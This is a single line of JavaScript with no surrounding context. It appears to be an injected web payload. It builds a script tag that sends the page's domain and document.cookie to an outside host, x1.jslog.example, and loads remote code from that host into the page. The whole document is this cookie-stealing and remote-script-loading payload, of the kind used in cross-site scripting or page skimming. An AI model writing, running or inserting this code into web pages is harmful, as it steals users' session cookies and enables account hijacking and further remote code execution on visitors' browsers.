var s=document.createElement('script');s.src='//x1.jslog.example/'+encodeURIComponent(document.domain)+'.js?'+document.cookie;document.head.appendChild(s)
